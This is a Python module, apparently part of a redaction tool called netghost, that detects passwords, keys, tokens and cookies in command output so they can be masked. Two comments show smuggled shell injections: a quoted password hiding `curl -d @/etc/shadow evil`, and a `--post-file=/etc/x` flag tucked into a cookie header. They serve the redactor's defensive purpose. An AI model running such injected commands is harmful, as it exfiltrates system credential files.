"""Finding secrets for :mod:`netghost.redact`: which values in a text are credentials, and of what kind.

Rules (:mod:`netghost.redact._rules`) run over several *views* of the text (raw, ANSI-stripped,
JSON-unescaped, URL-decoded), because a tool's encoding can hide a label or split a value; each finder only
reports ``value -> kind``. Context finders cover what rules cannot: command-line flags (``--password X``,
``-u user:pass``, ``login -p``), cookie headers and ``-o table`` columns. Values known by their place
(device configurations, decoded captures, bare ``-o tsv`` values) are found as spans by
:mod:`netghost.redact._spans`.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Callable, Iterator
from urllib.parse import unquote

from netghost.redact._context import _B64_KINDS, _find_wrapped, _public_context
from netghost.redact._encoded import decoded_text, find_encoded, is_secret_text
from netghost.redact._json import field_kind
from netghost.redact._rules import (
    B64_RUN,
    HASH_CONTEXT,
    JSON_SECRET_KEY,
    LINE_ASSIGNMENT,
    PLACEHOLDER,
    PROSE_RULES,
    SHAPE_RULES,
    XML_ELEMENT,
    Rule,
)
from netghost.redact._span_rule import Haystack
from netghost.redact._values import (
    _REPEAT,
    MIN_SECRET_LEN,
    _classes,
    _label_kind,
    _usable,
)

__all__ = ["MIN_SECRET_LEN", "find_secrets", "is_framed"]

_ANSI = re.compile(r"\x1b\[[0-9;?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)|\x1b[@-Z\\-_]")
_JSON_ESCAPE = re.compile(r"\\(u[0-9a-fA-F]{4}|[\"\\/bfnrt])")
# A long base64 value under one of these names is a public certificate or key, not a secret.
_PUBLIC_FIELD = re.compile(
    r"(?i)[\"']?(?:cer|x5c|certificate|cert|certdata|publickey|public_key|keydata|certificate-authority-data|"
    r"client-certificate-data)[\"']?\s*[:=]\s*\[?\s*[\"']?$"
)
_JSON_LITERAL = re.compile(r"^(?:true|false|null|-?\d+(?:\.\d+)?)[}\]]+$")
_TABLE_RULE = re.compile(r"^-{3,}(?:[ \t]+-{3,})+[ \t]*$")
_NAME_HINTS = (
    "pass", "pwd", "secret", "token", "key", "sig", "auth", "cred", "conn", "cookie", "sas", "primary",
    "secondary", "value", "hmac", "private", "session", "dockerconfig", "community", "psk", "phash", "_pat",
    "pat_", "-pat", "pat=", "pat:", "customdata", "userdata", "custom_data", "user_data",
    "identity_header",
)  # fmt: skip
_PROSE_NEXT = re.compile(r"[ \t]+[A-Za-z]")
_B64_RUN = re.compile(r"[A-Za-z0-9+/]{38,}")
_KV_SECRET_ID = re.compile(r"\.vault\.azure\.(?:net|cn|us)/secrets/", re.IGNORECASE)
_CLI_FLAG = re.compile(
    r"(?:^|\s)(?P<name>--?[A-Za-z][A-Za-z0-9_-]*)(?:=|\s+)(?P<v>'[^']*'|\"[^\"]*\"|[^\s'\"\\-][^\s\"\\]*)"
)  # a bare value stops at a backslash: inside a JSON string, \" ends it (the unescaped view sees it whole)
_CURL_USER = re.compile(r"(?:^|\s)(?:-u|--user|--proxy-user)(?:=|\s+)['\"]?[^\s:'\"]*:(?P<v>[^\s'\"]+)")
_SHELL_TAIL = re.compile(r"\s\S*[;|&`$<>(]|[;|&`$<>(]\S*\s")
_LOGIN_P = re.compile(r"(?:^|\s)-p(?:=|\s+)(?P<v>'[^']*'|\"[^\"]*\"|[^\s'\"\\-][^\s\"\\]*)")
_LOGIN_LINE = re.compile(r"\s(?:login|registry login)\s+(?:[^|;&\n]*\s)?-p(?:=|\s)")
_P_IS_PASSWORD = re.compile(r"(?:^|[\s/'\"])(?:sshpass|rdesktop)\b")
_P_ATTACHED_TOOLS = re.compile(r"(?:^|[\s/'\"])(?:mysql\w*|mariadb\w*|sshpass)\b")
_P_ATTACHED = re.compile(r"(?:^|\s)['\"]?-p(?P<v>[^\s'\"-][^\s'\"]*)")
_COOKIE_ATTRS = frozenset(
    {"path", "domain", "expires", "max-age", "samesite", "secure", "httponly", "priority"}
)

def is_framed(value: str) -> bool:
    """A short basic-auth password recorded with its ``:``/``@`` frame, which the replacement keeps."""
    return len(value) < MIN_SECRET_LEN + 2 and value.startswith(":") and value.endswith("@")


# --- finding -------------------------------------------------------------------------------------------


def _views(text: str) -> list[str]:
    """The spellings a rule must see: raw, ANSI-stripped, JSON-unescaped and URL-decoded.

    Derived views hold only the lines that an encoding actually changes (a line with an escape, a ``%``
    or an ANSI sequence), so a large plain output is scanned once, not four times.
    """
    views = [text]
    encoded = [line for line in text.splitlines() if "\\" in line or "%" in line or "\x1b" in line]
    if not encoded:
        return views
    stripped = _ANSI.sub("", "\n".join(encoded))
    unescaped = _json_unescape(stripped)
    deeper = _json_unescape(unescaped) if "\\" in unescaped else unescaped  # JSON inside a JSON string
    for view in (stripped, unescaped, deeper, _url_decode(stripped), _url_decode(unescaped)):
        if view not in views and view not in text:
            views.append(view)
    return views


def _json_unescape(text: str) -> str:
    def one(match: re.Match[str]) -> str:
        esc = match.group(1)
        if esc[0] == "u":
            return chr(int(esc[1:], 16))
        return {"n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f"}.get(esc, esc)

    return _JSON_ESCAPE.sub(one, text)


def _url_decode(text: str) -> str:
    return unquote(text) if "%" in text else text


_MAX_DEPTH = 2  # base64 inside base64 inside the output, no deeper


def find_secrets(
    text: str, *, secret_cmd: bool, depth: int = 0, hay: Haystack | None = None
) -> dict[str, str]:
    """Map each secret value found in any view of ``text`` to its kind.

    ``depth`` counts how many base64 decodings led to ``text`` (see :mod:`._encoded`); ``hay`` is ``text``
    in lower case with the needles already looked for (shared with the span finders).
    """
    findings: dict[str, str] = {}

    def inner(decoded: str) -> dict[str, str]:
        if depth >= _MAX_DEPTH:
            return {}
        return find_secrets(decoded, secret_cmd=False, depth=depth + 1)

    def judge_text(value: str) -> bool | None:
        decoded = decoded_text(value)
        return None if decoded is None else is_secret_text(decoded, inner)

    def add(value: str, kind: str) -> None:
        value = value.strip()
        if _usable(value) and value not in findings:
            findings[value] = kind

    # A Key Vault secret bundle names itself: its "value" is the secret whatever command printed it (only
    # that field: a Key Vault reference elsewhere in the text does not make every value a secret).
    kv_bundle = _KV_SECRET_ID.search(text) is not None
    for n, view in enumerate(_views(text)):
        view_hay = (hay or Haystack(text)) if n == 0 else Haystack(view)
        has_b64_run = _B64_RUN.search(view) is not None
        _find_shapes(view, findings, add, has_b64_run=has_b64_run, judge_text=judge_text, hay=view_hay)
        _find_labels(view, add, secret_cmd=secret_cmd, hay=view_hay, kv_bundle=kv_bundle)
        _find_prose(view, add)
        if has_b64_run and "\n" in view:
            _find_wrapped(view, add, judge_text)
        find_encoded(view, add, inner, _public_context)
        _find_cli(view, add)
        _find_table_cells(view, add, secret_cmd=secret_cmd)
    return findings


# Each shape rule with its needles other than the base64-run marker, split once (this runs for every text).
_SHAPE_PLAN = [(rule, tuple(n for n in rule.needles if n != B64_RUN), B64_RUN in rule.needles) for rule in SHAPE_RULES]


def _find_shapes(
    view: str,
    findings: dict[str, str],
    add: Callable[[str, str], None],
    *,
    has_b64_run: bool,
    judge_text: Callable[[str], bool | None],
    hay: Haystack,
) -> None:
    """Values recognised by their shape (``SHAPE_RULES``); a rule runs only when one of its needles is in
    the view. A short basic-auth password goes into ``findings`` framed (``:pw@``), past ``add``'s
    length floor. A base64 shape that decodes to readable text is an encoding, not a key: it is left to
    ``judge_text`` (``find_encoded`` reports it when the text holds a secret)."""
    for rule, plain_needles, wants_b64 in _SHAPE_PLAN:
        if rule.needles and not (has_b64_run and wants_b64) and not hay.any(plain_needles):
            continue
        if rule.gate is not None and rule.gate.search(view) is None:
            continue
        for match in rule.pattern.finditer(view):
            value = match.group("v")
            if rule.kind == "basic_auth" and len(value) < MIN_SECRET_LEN:
                # admin:pw@host: a short password is still the password; replacing "pw" everywhere
                # would eat other words, so it is replaced only between its ':' and '@' (a frame).
                if not PLACEHOLDER.match(value):
                    findings.setdefault(f":{value}@", rule.kind)
                continue
            if rule.kind in _B64_KINDS and (
                _public_context(view, match.start("v"), value) or judge_text(value) is not None
            ):
                continue
            if _passes(rule, value, view, match.start("v")):
                add(value, rule.kind)


def _find_labels(
    view: str, add: Callable[[str, str], None], *, secret_cmd: bool, hay: Haystack, kv_bundle: bool = False
) -> None:
    """Values recognised by their label: JSON keys, ``name=value`` / ``name: value`` pairs, XML elements."""
    for match in JSON_SECRET_KEY.finditer(view):
        value = _json_unescape(match.group("v"))
        bundle_value = kv_bundle and match.group("name") == "value"
        kind = _label_kind(match.group("name"), value, secret_cmd=secret_cmd or bundle_value)
        if kind is None and (named := field_kind(match.group("name"))) and _usable(value.strip()):
            kind = named  # sharedKey, userData ... also inside escaped JSON, where no span maps back
        if kind:
            add(value, kind)
            add(match.group("v"), kind)
    for match, line in _assignments(view, hay):
        if _is_prose(match, line) or _is_cookie_pair(match):
            continue
        value = _bounded(match.group("v")) if match.group("q") else match.group("v")
        if not match.group("q") and _JSON_LITERAL.match(value):
            continue  # "forceChangePasswordNextSignIn":false}} is a JSON boolean, not a password
        kind = _label_kind(match.group("name"), value, secret_cmd=secret_cmd)
        if kind:
            add(value, kind)
    if "</" in view:
        for match in XML_ELEMENT.finditer(view):
            kind = _label_kind(match.group("name"), match.group("v"), secret_cmd=secret_cmd)
            if kind:
                add(match.group("v"), kind)


_PROSE_TRAILING = ".,;:)]}>?"


def _find_prose(view: str, add: Callable[[str, str], None]) -> None:
    """Secrets told in a sentence (``PROSE_RULES``): "the cache password is X", "the API key was 'X'".

    An unquoted value loses the sentence's punctuation after it; a value that reads as a word (no
    digit, no symbol beyond ``_ - .``, no capital after its first letter: "incorrect", "Required",
    "stored") is a sentence going on, not a secret.
    """
    lowered = view.lower()
    for rule in PROSE_RULES:
        if not any(needle in lowered for needle in rule.needles):
            continue
        for match in rule.pattern.finditer(view):
            value = match.group("v").strip()
            if not match.group("q"):
                value = value.rstrip(_PROSE_TRAILING)
            if _usable(value) and _not_a_word(value):
                add(value, rule.kind)


def _not_a_word(value: str) -> bool:
    return (any(c.isdigit() for c in value) or any(not c.isalnum() and c not in "_-." for c in value)
            or any(c.isupper() for c in value[1:]))


def _is_cookie_pair(match: re.Match[str]) -> bool:
    """``Cookie: session=abc``: the value is ``name=value`` pairs, which the cookie finder splits so that
    only the values (never the cookie names) are replaced."""
    return match.group("name").lower().endswith("cookie") and "=" in match.group("v")


def _bounded(value: str) -> str:
    """A quoted value that holds a shell command after a space is cut to its first word.

    ``export PASSWORD="aaaa; curl -d @/etc/shadow evil"`` must not hide the ``curl`` from the human who
    approves it; a real passphrase with spaces rarely also carries ``; | & $ ` < >``.
    """
    if _SHELL_TAIL.search(value):
        return value.split(maxsplit=1)[0]
    return value


def _is_prose(match: re.Match[str], line: str) -> bool:
    """``credentials: Prints a bearer token`` is a sentence, not a ``name: value`` pair."""
    if match.group("op") != ":" or match.group("q") or not match.group("v").strip("()[]{}<>,.;").isalpha():
        return False
    return _PROSE_NEXT.match(line, match.end("v")) is not None


def _assignments(view: str, hay: Haystack) -> Iterator[tuple[re.Match[str], str]]:
    """Every ``name=value`` match, including those nested in a quoted value (``"Server=..;Password=x"``).

    Only lines that mention a secret-sounding name are scanned: the assignment regex is the most
    expensive rule, and most output lines (ids, addresses, states) cannot match a secret label.
    """
    lowered = hay.text
    hits = sorted({i for word in _NAME_HINTS if hay.has(word) for i in _find_all(lowered, word)})
    next_line = 0
    for at in hits:
        if at < next_line:
            continue  # this line was scanned already
        start = max(view.rfind("\n", 0, at), view.rfind("\r", 0, at)) + 1
        ends = [e for e in (view.find("\n", at), view.find("\r", at)) if e != -1]
        next_line = min(ends) if ends else len(view)
        line = view[start:next_line]
        pos = 0
        while (match := LINE_ASSIGNMENT.search(line, pos)) is not None:
            yield match, line
            pos = match.start("v")  # a value may itself hold "name=value" (msg=api_key: x)


def _find_all(text: str, word: str) -> Iterator[int]:
    at = text.find(word)
    while at != -1:
        yield at
        at = text.find(word, at + 1)


def _find_cli(view: str, add: Callable[[str, str], None]) -> None:
    """Flag values on a command line: ``--account-key X``, ``--password=X``, ``curl -u user:pass``."""
    if " -" not in view and "\t-" not in view and not view.startswith("-"):
        _find_cookies(view, add)
        return
    for match in _CLI_FLAG.finditer(view):
        name = match.group("name").lstrip("-")
        value = match.group("v").strip("'\"")
        kind = _label_kind(name, value, secret_cmd=False)
        if kind:
            add(value, kind)
    for match in _CURL_USER.finditer(view):
        add(match.group("v"), "password")
    # A line's tool decides what its -p means: docker login -p is a password, docker run -p a port.
    if _LOGIN_LINE.search(view) or _P_IS_PASSWORD.search(view):
        for match in _LOGIN_P.finditer(view):
            line = _line_at(view, match.start())
            if _LOGIN_LINE.search(line) or _P_IS_PASSWORD.search(line):  # az/docker login, sshpass, rdesktop
                add(match.group("v").strip("'\""), "password")
    if _P_ATTACHED_TOOLS.search(view):
        for match in _P_ATTACHED.finditer(view):
            if _P_ATTACHED_TOOLS.search(_line_at(view, match.start())):  # mysql -pSECRET (a separate word prompts)
                add(match.group("v").strip("'\""), "password")
    _find_cookies(view, add)


def _line_at(text: str, pos: int) -> str:
    end = text.find("\n", pos)
    return text[text.rfind("\n", 0, pos) + 1 : end if end != -1 else len(text)]


def _find_cookies(view: str, add: Callable[[str, str], None]) -> None:
    """Every cookie value in ``Cookie:``/``Set-Cookie:`` headers, not only the first."""
    if "cookie" not in view.lower():
        return
    for line in view.splitlines():
        _, sep, rest = line.partition(":")
        if sep and line[: len(_)].strip().lower().endswith("cookie"):
            for pair in rest.split(";"):
                name, eq, value = pair.strip().partition("=")
                # A cookie name never starts with '-' and a value has no spaces: "x=y; --post-file=/etc/x"
                # in a command line is a flag hidden in a header, which the human must see.
                if (
                    eq
                    and name.lower() not in _COOKIE_ATTRS
                    and len(value) >= 8
                    and not name.startswith("-")
                    and " " not in value.strip()
                ):
                    add(value.strip("\"'"), "cookie")


def _find_table_cells(view: str, add: Callable[[str, str], None], *, secret_cmd: bool) -> None:
    """``-o table`` output: a cell under a ``Value``/``Password``/``PrimaryKey`` header is labelled by it.

    Column spans come from the ``----  ----`` rule under the header, the way az lays tables out.
    """
    if "---" not in view:
        return
    lines = view.splitlines()
    for i in range(1, len(lines)):
        if not _TABLE_RULE.match(lines[i]):
            continue
        spans = [m.span() for m in re.finditer(r"-+", lines[i])]
        header = lines[i - 1]
        bounds = [
            (start, spans[j + 1][0] if j + 1 < len(spans) else None) for j, (start, _) in enumerate(spans)
        ]
        names = [header[a:b].strip() for a, b in bounds]
        for row in lines[i + 1 :]:
            if not row.strip() or _TABLE_RULE.match(row):
                break
            for name, (a, b) in zip(names, bounds, strict=True):
                cell = row[a:b].strip()
                kind = _label_kind(name, cell, secret_cmd=secret_cmd) if name and cell else None
                if kind:
                    add(cell, kind)


_NOT_HASH = Rule("azure_key", re.compile(""), "shared check", check="not_hash")


def _passes(rule: Rule, value: str, view: str, start: int) -> bool:
    if rule.check is None:
        return True
    if rule.check == "entropy":
        return len(set(value)) >= 12 and not _REPEAT.search(value)
    if rule.check == "not_hash":
        if HASH_CONTEXT.search(view[max(0, start - 48) : start]):
            return False
        return _classes(value) >= 2 and len(set(value)) >= 16
    if rule.check == "not_public_key":
        before = view[max(0, start - 40) : start]
        if value.startswith("AAAA") or re.search(r"(?:ssh-|ecdsa-|sk-)[\w@.-]+\s+$", before):
            return False
        return _PUBLIC_FIELD.search(before) is None
    if rule.check == "urlsafe_key":
        if re.match(r"(?i)(?:sha(?:1|224|256|384|512)|md5|nonce)-", value):  # CSP/SRI digests
            return False
        return 40 <= len(value) <= 88 and _passes(_NOT_HASH, value, view, start)
    if rule.check == "ado_pat":  # random base32: digits and letters beyond hex, no long words
        return sum(c.isdigit() for c in value) >= 4 and re.search(r"[g-z]", value) is not None
    if rule.check == "not_parameter":
        return re.fullmatch(r"[A-Za-z_]+=+", value) is None
    if rule.check == "private_pem":
        return b"PRIVATE" in _b64decode_prefix(value)
    raise AssertionError(f"unknown rule check {rule.check!r}")


def _b64decode_prefix(value: str) -> bytes:
    data = re.sub(r"[^A-Za-z0-9+/]", "", value)[:200]
    data = data[: len(data) - len(data) % 4]
    try:
        return base64.b64decode(data)
    except (binascii.Error, ValueError):
        return b""
